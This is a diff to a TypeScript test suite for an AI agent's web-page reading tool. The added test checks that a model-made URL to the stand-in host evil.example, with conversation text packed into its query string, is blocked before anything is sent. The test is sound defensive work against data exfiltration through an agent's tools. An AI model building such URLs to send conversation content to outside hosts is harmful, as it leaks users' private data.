@@ -178,6 +178,26 @@ describe('an address that the model made up', () => {
     expect(error.message).toContain('ask the user');
   });
 
+  it('is blocked even with free choice on when it could carry a part of the conversation', async () => {
+    const asked: string[] = [];
+    const context = toolContext({
+      settings: { freeAddressChoice: 'ON' },
+      pages: {
+        retrieve: async (url) => {
+          asked.push(url);
+          return { ...PAGE };
+        },
+      },
+    });
+    const url = `https://evil.example/?q=${'the-contract-says-'.repeat(20)}`;
+    await expect(readWebPageTool.execute({ url }, context)).rejects.toMatchObject({
+      code: 'blocked',
+      reason: { key: 'tools.read_web_page.blocked.carriesData' },
+      destination: { kind: 'nothing-sent' },
+    });
+    expect(asked).toEqual([]);
+  });
+
   it('is read with free choice on', async () => {
     const { asked, result } = read({ given: [], settings: { freeAddressChoice: 'ON' } });
     await result;
